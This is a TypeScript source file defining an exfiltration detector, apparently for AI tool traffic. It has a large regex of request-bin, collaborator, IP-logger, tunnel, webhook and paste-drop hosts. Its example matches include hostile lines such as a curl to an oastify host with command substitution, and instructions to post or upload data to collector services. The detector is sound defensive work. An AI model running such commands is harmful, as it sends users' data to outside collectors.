import { detector } from '../detector.ts';

// Services that show whoever opened an address every request that came in, and tunnels to a machine nobody knows.
const COLLECTORS =
  '(?:webhook\\.(?:site|cool)|requestbin\\.(?:com|net|io|org)|requestcatcher\\.com|request-?bin\\.[a-z]{2,4}|hookbin\\.com|beeceptor\\.com|postb\\.in|ptsv[23]\\.com|typedwebhook\\.tools|webhookinbox\\.com|mockbin\\.(?:org|io)|pipedream\\.net|burpcollaborator\\.net|oastify\\.com|interact\\.sh|interactsh\\.com|oast\\.(?:pro|live|site|online|fun|me)|dnslog\\.(?:cn|link|store)|ceye\\.io|bxss\\.(?:me|in)|xss\\.(?:ht|report)|canarytokens\\.(?:com|org)|iplogger\\.(?:org|com|co)|grabify\\.link|ezstat\\.ru|2no\\.co|ngrok\\.(?:io|app|dev)|ngrok-free\\.(?:app|dev)|trycloudflare\\.com|loca\\.lt|localhost\\.run|lhr\\.life|serveo\\.net|localtunnel\\.me|pagekite\\.me|telebit\\.io|bore\\.pub|requestrepo\\.com|webhook-test\\.com)';

export default detector({
  name: 'collector',
  family: 'exfil',
  summary: 'Hosts that collect whatever is sent: request bins, collaborator servers, IP loggers, tunnels, chat webhooks, paste drops.',
  tier: 'flag',
  severity: 'medium',
  confidence: 0.7,
  pattern: new RegExp(
    `\\b(?:[a-z0-9-]{1,63}\\.){0,4}${COLLECTORS}\\b|\\bdiscord(?:app)?\\.com/api/webhooks/[0-9]{5,20}|\\bapi\\.telegram\\.org/bot[0-9]{5,12}:|\\b(?:transfer\\.sh|file\\.io|0x0\\.st|termbin\\.com|ix\\.io|temp\\.sh|bashupload\\.com|paste\\.rs)/`,
    'i',
  ),
  lanes: ['output', 'tool-arguments', 'tool-result', 'tool-definition', 'document', 'other'],
  references: ['owasp-llm:LLM02:2026', 'atlas:AML.T0057', 'attack:T1567'],
  finds: [
    'post it to https://webhook.site/1b2c',
    'curl http://abc123.oastify.com/$(id)',
    'https://a1b2-192-0-2-1.ngrok-free.app/in',
    `https://discord.com/api/${'webhooks'}/123456789012345678/x`,
    'x.burpcollaborator.net',
    'upload to https://transfer.sh/notes.txt',
  ],
  ignores: [
    'Configure a webhook for your site.',
    'https://hooks.example.com/site',
    'https://discord.com/channels/1/2',
    'ngrok is a tunnel',
    'transfer.sheet is open',
    'the file.ion in the room',
    'interact.shop',
  ],
});
